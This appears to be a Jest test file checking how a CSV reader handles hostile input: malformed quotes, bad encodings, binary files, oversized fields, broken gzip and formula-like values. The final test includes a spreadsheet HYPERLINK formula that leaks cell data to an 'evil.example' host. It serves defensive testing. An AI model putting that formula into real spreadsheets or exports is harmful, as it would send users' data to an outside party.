import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { InputError } from '../../src/core/errors.js';
import { ExitCode } from '../../src/core/exit-codes.js';
import { openInputs, readInputs, type FileFacts, type InputFile, type InputOptions } from '../../src/pipeline/input/index.js';
import type { InputRow } from '../../src/core/types.js';

const HOSTILE = fileURLToPath(new URL('../../fixtures/hostile/', import.meta.url));
const OPTS: InputOptions = { idColumn: 'document_id', skipEmpty: false, maxRecordBytes: 1 << 20, maxFields: 1000 };

function hostile(name: string): InputFile {
  const file = path.join(HOSTILE, name);
  return { path: file, display: file };
}

async function collect(files: InputFile[], facts?: FileFacts[], opts: Partial<InputOptions> = {}): Promise<InputRow[]> {
  const rows: InputRow[] = [];
  for await (const chunk of readInputs(files, { ...OPTS, ...opts }, facts)) rows.push(...chunk);
  return rows;
}

/** Reads until the reader throws; returns the error (fails the test if nothing is thrown). */
async function rejection(files: InputFile[], opts: Partial<InputOptions> = {}): Promise<InputError> {
  try {
    await collect(files, undefined, opts);
  } catch (err) {
    if (err instanceof InputError) return err;
    throw err;
  }
  throw new Error('expected the input to be rejected');
}

async function withTempDir<T>(use: (dir: string) => Promise<T>): Promise<T> {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'input-hostile-'));
  try {
    return await use(dir);
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
}

describe('hostile input is rejected with a code, the file and the line', () => {
  test.each([
    ['unclosed-quote.csv', 'CSV_QUOTE_NOT_CLOSED', 4],
    ['latin1.csv', 'INVALID_UTF8', 3],
    ['binary.bin', 'BINARY_FILE', 1],
    ['empty.csv', 'EMPTY_FILE', 1],
    ['missing-id-column.csv', 'MISSING_ID_COLUMN', 1],
    ['duplicate-headers.csv', 'DUPLICATE_HEADER', 1],
    ['wide-10000-fields.csv', 'TOO_MANY_FIELDS', 3],
  ])('%s → %s at line %i', async (name, code, line) => {
    const file = hostile(name);
    const err = await rejection([file]);
    expect(err.code).toBe(code);
    expect(err.exitCode).toBe(ExitCode.InputRejected);
    expect(err.message.startsWith(`${file.display}:${line}: `)).toBe(true);
    expect(err).toMatchObject({ file: file.display, line });
  });

  test('no parser internals leak into the error', async () => {
    const err = await rejection([hostile('unclosed-quote.csv')]);
    expect(err.cause).toBeUndefined();
    expect(err.message).not.toMatch(/CsvError|Quote Not Closed|\n/);
  });

  test('rows before the broken record are read first, so a structural error is seen at its own line', async () => {
    const seen: number[] = [];
    await expect(async () => {
      for await (const chunk of readInputs([hostile('unclosed-quote.csv')], OPTS)) seen.push(...chunk.map((row) => row.line));
    }).rejects.toThrow(InputError);
    expect(seen).toEqual([2, 3]);
  });

  test('a 10 MB field is stopped by the record size cap', async () => {
    await withTempDir(async (dir) => {
      const file = path.join(dir, 'huge-field.csv');
      await fs.writeFile(file, `document_id,note\nok,fine\nbig,"${'x'.repeat(10 * 1024 * 1024)}"\nafter,row\n`);
      const err = await rejection([{ path: file, display: 'huge-field.csv' }]);
      expect(err.code).toBe('RECORD_TOO_LARGE');
      expect(err.message).toMatch(/^huge-field\.csv:3: .*1048576 bytes \(--max-record-bytes\)/);
    });
  });

  test('a header that never ends is stopped by the record size cap too', async () => {
    await withTempDir(async (dir) => {
      const file = path.join(dir, 'no-breaks.csv');
      await fs.writeFile(file, `document_id,${'x'.repeat(3 * 1024 * 1024)}`);
      expect((await rejection([{ path: file, display: 'no-breaks.csv' }])).code).toBe('RECORD_TOO_LARGE');
    });
  });

  test('a broken gzip file is rejected as such', async () => {
    await withTempDir(async (dir) => {
      const file = path.join(dir, 'broken.csv.gz');
      await fs.writeFile(file, Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xde, 0xad, 0xbe, 0xef]));
      const err = await rejection([{ path: file, display: 'broken.csv.gz' }]);
      expect(err.code).toBe('BAD_GZIP');
      expect(err.message).toMatch(/^broken\.csv\.gz: /);
    });
  });

  test('a truncated gzip file is rejected, not read as a shorter file', async () => {
    await withTempDir(async (dir) => {
      const file = path.join(dir, 'cut.csv.gz');
      const whole = gzipSync(`document_id,tier\n${'x,gold\n'.repeat(1000)}`);
      await fs.writeFile(file, whole.subarray(0, whole.length - 12));
      expect((await rejection([{ path: file, display: 'cut.csv.gz' }])).code).toBe('BAD_GZIP');
    });
  });

  test('a directory is rejected when opening the inputs', async () => {
    await expect(openInputs([HOSTILE], { tmpDir: os.tmpdir() })).rejects.toMatchObject({ code: 'NOT_A_FILE', file: HOSTILE });
  });

  test('a directory passed straight to the reader is rejected too', async () => {
    expect((await rejection([{ path: HOSTILE, display: 'dir' }])).code).toBe('NOT_A_FILE');
  });
});

describe('hostile input that is not an error', () => {
  test('UTF-16 LE with a BOM is read as UTF-16 by itself', async () => {
    const facts: FileFacts[] = [];
    const rows = await collect([hostile('utf16.csv')], facts);
    expect(rows).toEqual([
      { file: 0, line: 2, id: '2003-1001', segments: [{ type: 'tier', value: 'gold' }] },
      { file: 0, line: 3, id: '2003-1002', segments: [{ type: 'tier', value: 'silver' }] },
    ]);
    expect(facts[0]).toMatchObject({ encoding: 'utf-16le', header: ['document_id', 'tier'] });
  });

  test('latin1.csv reads with --encoding latin1 or windows-1252', async () => {
    for (const encoding of ['latin1', 'windows-1252'] as const) {
      const facts: FileFacts[] = [];
      const rows = await collect([hostile('latin1.csv')], facts, { encoding });
      expect(rows[1]?.segments).toEqual([
        { type: 'tier', value: 'silver' },
        { type: 'city', value: 'Bogotá' },
      ]);
      expect(facts[0]?.encoding).toBe(encoding);
    }
  });

  test('binary data is still rejected when read as Latin-1', async () => {
    const err = await rejection([hostile('binary.bin')], { encoding: 'latin1' });
    expect(err.code).toBe('BINARY_FILE');
  });

  test('header only: zero rows, with the facts of the file', async () => {
    const facts: FileFacts[] = [];
    expect(await collect([hostile('header-only.csv')], facts)).toEqual([]);
    expect(facts[0]).toMatchObject({ rows: 0, layout: 'wide', header: ['document_id', 'tier', 'region'] });
  });

  test('mixed CRLF and LF: every row at its physical line', async () => {
    const rows = await collect([hostile('mixed-newlines.csv')]);
    expect(rows.map((r) => [r.line, r.id, r.segments?.[1]?.value])).toEqual([
      [2, '2008-1001', 'plain'],
      [4, '2008-1002', 'two\r\nlines'],
      [6, '2008-1003', 'three\nshort\nlines'],
      [10, '2008-1004', 'last'],
    ]);
  });

  test('formula-like ids and values pass through unchanged (the report neutralises them)', async () => {
    const rows = await collect([hostile('formula-injection.csv')]);
    expect(rows.map((r) => r.id)).toEqual(['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '2009-1002', '-2009-1003', '@2009-1004']);
    expect(rows[1]?.segments).toEqual([
      { type: 'tier', value: '+SUM(1+2)' },
      { type: 'note', value: '=1+2' },
    ]);
  });
});
